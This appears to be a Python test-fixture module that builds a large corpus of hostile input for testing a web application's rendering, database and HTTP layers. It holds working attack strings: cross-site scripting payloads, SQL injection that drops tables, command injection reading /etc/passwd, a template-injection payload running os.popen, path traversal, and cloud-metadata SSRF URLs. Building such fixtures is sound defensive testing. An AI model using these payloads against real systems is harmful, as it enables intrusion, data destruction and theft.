"""A corpus of hostile input: markup that tries to run, Unicode edge cases, huge and invisible text.

HOSTILE_STRINGS are all valid Unicode (they can be sent as UTF-8); INVALID_UTF8 are byte strings
that are not UTF-8 at all (lone surrogates, overlongs, stray continuation bytes), for the HTTP
layer to refuse. BROWSER_SAMPLE is the short list of the most dangerous strings for Chromium.
"""
import itertools

MARKER_ID = "pwned"  # payloads that would inject an element give it this id

SCRIPT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.body.id='pwned'</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    '<img id="pwned" src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a id="pwned" href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button id="pwned">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<style>@import "javascript:alert(1)";</style>',
    '<style>body{background:red}</style>',
    '<div style="background:url(javascript:alert(1))">',
    '<div id="pwned" style="position:fixed;inset:0;background:red">overlay</div>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<<script>alert(1);//<</script>",
    "<div id=\"pwned\">injected</div>",
    '<p hx-get="/logout" hx-trigger="load" id="pwned">htmx</p>',
    "<div hx-post=\"/admin/users\" hx-trigger=\"load\" hx-vals='{\"role\":\"admin\"}'>htmx</div>",
    '<div hx-on:htmx:load="alert(1)">htmx on</div>',
    '<button hx-on::after-request="alert(1)" id="pwned">b</button>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
    '<isindex type=image src=1 onerror=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;",
    "&NotAnEntity; &#0; &#xD800; &#1114112;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![x](https://example.com/x.png "t" onerror="alert(1)")',
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[link][x]",
    "<javascript:alert(1)>",
    '<http://example.com/"onmouseover="alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> <img src=x onerror=alert(1)>",
    "* <svg/onload=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "# <img src=x onerror=alert(1)>",
    "[mql](javascript:alert(1)) and [[mql]]",
    "<a href='/terms/mql' onclick='alert(1)'>mql</a>",
    "<a href=\"https://evil.example\" target=\"_blank\">phish</a>",
    "<div>unclosed <b>bold <i>italic",
    "</div></main></body></html><script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe></foreignObject></svg>",
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=x onerror=\"&#x61;lert(1)\">",
    "<a href=\"\x01javascript:alert(1)\">ctrl</a>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<script\x20type=\"text/javascript\">alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>fetch('/api/v1/sla').then(r=>r.text()).then(alert)</script>",
]

UNICODE = [
    "\u202eevil\u202c reversed",
    "\u202egnp.exe",
    "abc\u202ddef\u202c",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "\u200b",
    "zero\u200bwidth\u200cnon\u200djoiner",
    "\ufeffBOM at start",
    "word\u2060joiner",
    "soft\u00adhyphen",
    "\u00a0non-breaking\u00a0space\u00a0",
    "\u3000ideographic space",
    "\u2028line separator\u2029paragraph separator",
    "😀", "👩‍👩‍👧‍👦", "👨🏿‍💻", "🏳️‍🌈", "🇩🇪🇫🇷", "❤️", "🧑‍🤝‍🧑", "1️⃣",
    "e\u0301 vs \u00e9", "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b",
    "a" + "\u0301" * 200,
    "Ω≈ç√∫˜µ≤≥÷", "ÅÍÎÏ˝ÓÔÒÚÆ☃", "Œ„´‰ˇÁ¨ˆØ∏”’", "¡™£¢∞§¶•ªº–≠",
    "田中さんにあげて下さい", "パーティーへ行かないか", "和製漢語", "사회과학원 어학연구소",
    "社會科學院語學研究所", "울란바토르", "𠜎𠜱𠝹𠱓𠱸𠲖𠳏",
    "مرحبا بالعالم", "שלום עולם", "הָיְתָה", "ثم نفس سقطت وبالتحديد،",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
    "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "ｆｕｌｌｗｉｄｔｈ", "ﬁ ligature", "Ⅻ roman", "½ ¾ ⅞",
    "ß → SS → ss", "İstanbul ı", "ǅ titlecase", "ΣΊΣΥΦΟΣ", "Ꭰ Cherokee",
    "\U0001f4a9" * 50, "\U0010fffd private plane", "\ue000 private use", "\ufffd replacement",
    "\ufdd0 noncharacter", "\uffff noncharacter", "\U0001fffe noncharacter",
    "̀ leading combining mark", "\u0e01\u0e34\u0e4a", "ཨོཾ", "👍🏻👍🏼👍🏽👍🏾👍🏿",
    "Tab\tinside", "Line\nbreak", "Windows\r\nline", "Old Mac\rline", "\n\n\nleading newlines",
    "trailing spaces   ", "   leading spaces", "\t", " ", "",
    "\u0085next line", "\u000bvertical tab", "\u000cform feed",
    "\u2800 braille blank", "\u115f\u1160 hangul fillers", "\u3164 hangul filler",
    "ᅟᅠ", "\u180e mongolian vowel separator", "\u034f grapheme joiner",
    "\u061c arabic letter mark", "\u200e lrm \u200f rlm",
    "𝕿𝖊𝖘𝖙", "Ꙭ", "ꙮ", "﷽",
]

CONTROL = [f"before{chr(code)}after" for code in itertools.chain(range(0x00, 0x20), [0x7F], range(0x80, 0xA0))]
CONTROL += ["\x00", "\x00\x00\x00", "null\x00byte", "\x00<script>alert(1)</script>", "%00", "\\0", "\\x00",
            "\x1b[31mred\x1b[0m", "\x07bell", "\x08\x08\x08backspace"]

LONG = [
    "x" * 10_000,
    "é" * 10_000,
    "😀" * 10_000,
    ("word " * 2_000).strip(),
    "A" * 100_000,
    "<b>" * 20_000,
    "[" * 10_000 + "]" * 10_000,
    "*" * 10_000,
    "> " * 5_000,
    "\n" * 10_000,
    "a" * 65_536,
    "[^" * 10_000, "<a " * 6_000, "[a](" * 5_000, "![" * 10_000, "1. " * 6_000, "- " * 10_000,
    "    " * 5_000 + "x", "`" * 20_000, "_a" * 10_000, "&" * 20_000, "\\" * 20_000,
    "x" * 200, "x" * 201, "x" * 500, "x" * 501, "x" * 5_000, "x" * 5_001, "x" * 20_000, "x" * 20_001,
]

SQL = [
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE users; --", "'); DELETE FROM versions; --",
    "1; SELECT pg_sleep(5); --", "' UNION SELECT password_hash FROM users --", "admin'--",
    "1' AND SLEEP(5)#", "'||(SELECT version())||'", "\\'; DROP TABLE entries; --", "%' OR '%'='",
    "'; UPDATE versions SET state='draft'; --", "$$; DROP TABLE audit_events; $$", "' OR ''='",
    "1 OR 1=1", "0x27", "CHAR(39)", "'; COPY users TO '/tmp/x'; --", "E'\\x27'",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "`; ls`", "$(id)", "| cat /etc/passwd", "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
]

TEMPLATE = [
    "{{7*7}}", "{{ 7*7 }}", "{{config}}", "{{ config.items() }}", "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{% for x in range(10) %}x{% endfor %}",
    "{% raw %}", "{% endraw %}", "{# comment #}", "{%- if true -%}yes{%- endif -%}", "${7*7}", "${{7*7}}",
    "#{7*7}", "<%= 7*7 %>", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "%(name)s", "%s%s%s%s%s", "{0}", "{name}", "{{", "}}", "{%", "%}", "{{{{}}}}",
]

SEARCH = [
    '"', '""', '"unterminated', "*", "**", "mq*", "*ql", "NEAR", "NEAR(a b)", "NEAR(a b, 2)", "a NEAR b",
    "AND", "OR", "NOT", "a AND b", "a OR b", "NOT a", "a AND", "OR b", "(", ")", "((a)", "a)",
    "name:mql", "definition : x", "^a", "a + b", "-a", "a & b", "a | b", "!a", "a:*", "a <-> b",
    "'", "''", "\\", "%", "_", "%%", "a%b_c", "[a-z]", ".*", "(?i)x", "{a}", "a' b",
]

MISC = [
    "mql", "MQL", "sla", "Lead", "   ", "-", "_", "0", "-1", "1e309", "NaN", "Infinity", "null", "None",
    "true", "false", "[]", "{}", '{"a": 1}', "[1, 2]", "0x10", "1,5", "١٢٣", "٣.١٤",
    "<", ">", "&", "&&", "<>", "</>", "<!>", "<?php echo 1; ?>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "\\", "\\\\", "/", "//", "#", "?", "?q=1&x=2", "#fragment", "a=b&c=d", "a;b", "a,b", "a\\nb",
    "@", "mailto:a@example.com", "tel:+1", "https://example.com/?a=<b>", "http://[::1]/",
]

EMAILS = [
    "a@example.com", "\"quoted\"@example.com", "a+tag@example.com", "<script>@example.com",
    "a@b", "@example.com", "a@", "a@@example.com", "a@exa mple.com", "ünï@example.com",
    "a@xn--mnchen-3ya.de", "a@münchen.de", "x" * 250 + "@example.com", "a@example.com\x00", "A@EXAMPLE.COM",
]

URLS = [
    "https://hooks.example.com/x", "http://127.0.0.1:9/x", "javascript:alert(1)", "data:text/plain,x",
    "file:///etc/passwd", "ftp://example.com/", "https://", "//example.com/x", "https://example.com/" + "a" * 3000,
    "https://user:pass@example.com/", "https://example.com/<script>", "https://ex ample.com/",
    "https://[::1]/x", "http://169.254.169.254/latest/meta-data/", "https://example.com/\u202e",
    "https://xn--80ak6aa92e.com/", "https://exаmple.com/ (cyrillic a)",
]


def _embedded(payloads: list[str]) -> list[str]:
    """Each payload again, inside ordinary prose, so filters that only look at the start miss it."""
    return [f"Lead is qualified when {p} and the score passes." for p in payloads]


def _build() -> list[str]:
    strings = (SCRIPT_PAYLOADS + _embedded(SCRIPT_PAYLOADS) + UNICODE + CONTROL + LONG + SQL + TEMPLATE
               + SEARCH + MISC + EMAILS + URLS)
    unique = list(dict.fromkeys(strings))
    for s in unique:
        s.encode("utf-8")  # every string here is valid Unicode
    return unique


HOSTILE_STRINGS: list[str] = _build()

# Byte strings that are not UTF-8: the HTTP layer must refuse or replace them, never crash.
INVALID_UTF8: list[bytes] = [
    b"\xed\xa0\x80",  # a lone high surrogate, as CESU-8
    b"\xed\xbf\xbf",  # a lone low surrogate
    b"\xed\xa0\xbd\xed\xb8\x80",  # a surrogate pair encoded separately
    b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",  # overlong '/'
    b"\xc0\x80",  # overlong NUL
    b"\xff", b"\xfe\xff", b"\x80", b"\xbf", b"abc\xe2\x82",  # stray and truncated bytes
    b"\xf4\x90\x80\x80",  # above U+10FFFF
    b"<script>\xff</script>",
]


def ascii_safe(text: str) -> str:
    """A short printable label for a test id."""
    label = text[:30].encode("unicode_escape").decode("ascii")
    return label + ("…" if len(text) > 30 else "")


# The most dangerous strings for a real browser: everything here must stay inert text.
BROWSER_SAMPLE: list[str] = list(dict.fromkeys([
    *SCRIPT_PAYLOADS[:12], *[p for p in SCRIPT_PAYLOADS if "pwned" in p or "hx-" in p],
    "[click](javascript:alert(1))", "![x](javascript:alert(1))", '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[link][x]", "<javascript:alert(1)>", "[mql](javascript:alert(1)) and [[mql]]",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>', "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">',
    "{{7*7}}", "\u202eevil\u202c reversed", "<img src=x onerror=\"&#x61;lert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<script/src=data:,alert(1)></script>",
]))
